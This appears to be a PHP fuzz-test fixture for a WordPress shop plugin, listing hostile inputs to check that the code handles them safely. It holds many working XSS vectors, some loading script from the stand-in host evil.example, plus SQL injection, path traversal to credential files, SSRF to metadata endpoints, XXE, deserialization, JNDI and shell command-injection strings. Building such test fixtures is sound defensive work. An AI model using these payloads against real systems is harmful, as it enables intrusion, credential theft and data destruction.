<?php

declare(strict_types=1);

namespace Museau\Tests\Fuzz;

/** Texts that broke other shops. Each script payload carries the word museauxss wherever it would run. */
final class Payloads
{
    /** @return list<string> at least a hundred ways of bringing a script into a page */
    public static function scripts(): array
    {
        $call = 'alert(/museauxss/)';
        $made = [
            "<script>$call</script>", "<SCRIPT SRC=//evil.example/museauxss.js></SCRIPT>", "<scr<script>ipt>$call</scr</script>ipt>",
            "</script><script>$call</script>", "</textarea><script>$call</script>", "</title><script>$call</script>", "</style><script>$call</script>",
            "--><script>$call</script>", "]]><script>$call</script>", "'><script>$call</script>", "\"><script>$call</script>", "`><script>$call</script>",
            "<script\x0c>$call</script>", "<script/museauxss>$call</script>", "<script\n>$call</script\n>", "\\u003cscript\\u003e$call\\u003c/script\\u003e",
            "&lt;script&gt;$call&lt;/script&gt;", '&#60;script&#62;' . $call . '&#60;/script&#62;', '%3Cscript%3E' . $call . '%3C/script%3E',
            "\" onmouseover=\"$call\" x=\"", "' onfocus='$call' autofocus='", '" autofocus onfocus=' . $call . ' x="', "\" style=\"x:expression($call)\"",
            "\u{2028}<script>$call</script>", "\0<script>$call</script>", "<scr\0ipt>$call</scr\0ipt>", "<\u{FF1C}script>$call", "\xC0\xBCscript>$call</script>",
            "<svg><script>$call</script></svg>", "<svg><a xlink:href=\"javascript:$call\"><text y=20>x</text></a></svg>", "<svg><animate onbegin=$call attributeName=x dur=1s>",
            "<svg><set attributeName=onmouseover to=$call>", "<svg><foreignObject><iframe srcdoc=\"<script>$call</script>\"></iframe></foreignObject></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=$call&gt;\">", "<math href=\"javascript:$call\">x</math>",
            "<noscript><p title=\"</noscript><img src=x onerror=$call>\">", "<template><script>$call</script></template>", "<!--<img src=\"--><img src=x onerror=$call//\">",
            "<iframe srcdoc=\"&lt;script&gt;$call&lt;/script&gt;\">", "<iframe src=\"javascript:$call\">", "<object data=\"javascript:$call\">", "<embed src=\"javascript:$call\">",
            "<object data=\"data:text/html,<script>$call</script>\">", "<link rel=stylesheet href=\"javascript:$call\">", "<link rel=import href=\"//evil.example/museauxss\">",
            "<meta http-equiv=refresh content=\"0;url=javascript:$call\">", "<base href=\"javascript:$call//\">", "<form action=\"javascript:$call\"><button>x</button></form>",
            "<button formaction=\"javascript:$call\">x</button>", "<isindex type=image src=1 onerror=$call>", "<input type=image src=x onerror=$call>",
            "<keygen autofocus onfocus=$call>", "<frameset onload=$call>", "<table background=\"javascript:$call\">", "<div style=\"background:url(javascript:$call)\">x</div>",
            "<div style=\"behavior:url(museauxss.htc)\">x</div>", "<style>@import 'javascript:$call';</style>", "<style>*{x:expression($call)}</style>", "<xss style=\"-moz-binding:url(museauxss.xml#a)\">",
            "[gallery link=\"javascript:{$call}\"]", "[caption]<script>$call</script>[/caption]", "[embed]javascript:{$call}[/embed]",
            "<!-- wp:html --><script>$call</script><!-- /wp:html -->", "<!-- wp:button {\"url\":\"javascript:$call\"} --><a href=\"javascript:$call\">x</a><!-- /wp:button -->", '<!-- wp:museau/product {"productId":"\"><script>' . $call . '</script>"} /-->',
            '{{constructor.constructor("' . $call . '")()}}', '${' . $call . '}', '#{' . $call . '}', '<%= ' . $call . ' %>', '{"__html":"<img src=x onerror=' . $call . '>"}', '"}</script><script>' . $call . '</script>',
        ];
        foreach (['javascript:', 'JaVaScRiPt:', "java\tscript:", "java\nscript:", "\x01javascript:", '&#106;avascript:', '&#x6A;avascript&colon;', 'javascript&#58;', 'vbscript:', 'data:text/html,<script>', 'data:text/html;base64,', "javascript://%0a", 'feed:javascript:', 'view-source:javascript:', "\u{00a0}javascript:"] as $scheme) {
            $made[] = $scheme . $call;
            $made[] = "<a href=\"$scheme$call\">x</a>";
        }
        foreach (['img src=x onerror', 'img src=x:x onerror', 'IMG SRC=x OnErRoR', 'img/src=x/onerror', 'body onload', 'svg onload', 'svg/onload', 'video src=x onerror', 'audio src=x onerror', 'details open ontoggle', 'marquee onstart', 'select autofocus onfocus', 'textarea autofocus onfocus', 'p onmouseenter', 'a onclick', 'div onpointerover', 'input autofocus onfocus', 'video><source onerror', 'style onload', 'x onclick', 'b onanimationstart'] as $tag) {
            $made[] = "<$tag=$call>x";
        }

        return $made;
    }

    /** @return list<string> what SQL, paths, mails, templates, addresses and encodings stumble over */
    public static function hostile(): array
    {
        return [
            "' OR '1'='1", "1' OR 1=1 -- ", '1; DROP TABLE wp_posts; --', "1 UNION SELECT user_login,user_pass FROM wp_users", "' AND SLEEP(5)-- ", '1) OR (1=1', '%27', "\\'; --", '" OR ""="', '1/**/OR/**/1=1', 'pg_sleep(5)', "'||(SELECT 1)||'",
            '../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '....//....//etc/passwd', '%2e%2e%2f%2e%2e%2fwp-config.php', 'php://filter/convert.base64-encode/resource=wp-config.php', 'phar://x.jpg', 'file:///etc/passwd', 'expect://id', '/dev/null', 'wp-config.php%00.jpg',
            'http://169.254.169.254/latest/meta-data/', 'http://127.0.0.1:22/', 'http://[::1]/', 'http://0x7f000001/', 'gopher://127.0.0.1:6379/_INFO', 'dict://127.0.0.1:11211/stat', 'http://evil.example/', '//evil.example/', 'https://evil.example\\@127.0.0.1/', 'ldap://evil.example/x',
            "x\r\nBcc: victime@example.net", "x\nSet-Cookie: a=b", "x\r\n\r\n<html>", '%0d%0aLocation: //evil.example',
            'O:8:"stdClass":1:{s:1:"a";s:1:"b";}', 'a:1:{i:0;O:4:"Evil":0:{}}', 'C:11:"ArrayObject":0:{}', '<?php system("id"); ?>', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
            '{"$gt":""}', '{"$where":"sleep(5000)"}', '${jndi:ldap://evil.example/a}', '{{7*7}}', '$(id)', '`id`', '; id', '| id', '&& id', '%n%n%n%s%s', '%p', '%1$s %2$d %', '%%', '__proto__', 'constructor',
            '', ' ', "\0", "\t", "\n", 'null', 'undefined', 'NaN', 'Infinity', '-Infinity', 'true', 'false', '[]', '{}', '0', '-0', '00', '0x10', '1e309', '1e5', '-1', '1,5', '1.5', '１２３', '٣', '2147483648', '9223372036854775808', '-9223372036854775809', '999999999999999999999999',
            'é', "e\u{301}", "\u{202E}txt.exe", "\u{FEFF}x", "\u{200B}", "\u{2028}", '😀', '👩‍👩‍👧‍👦', '𝕳𝖊𝖑𝖑𝖔', 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤', 'ﷺ', "\xff\xfe", "\xc3\x28", "\xed\xa0\x80", "\xf8\x88\x80\x80\x80", "\u{FFFF}", 'ß', 'ı', 'Ǆ', 'ﬀ',
            str_repeat('a', 256), str_repeat('é', 300), str_repeat('a', 5001), str_repeat('(', 500), str_repeat('9', 400), str_repeat("\u{1F600}", 200), str_repeat('%', 300), str_repeat('<b>', 300),
        ];
    }
}
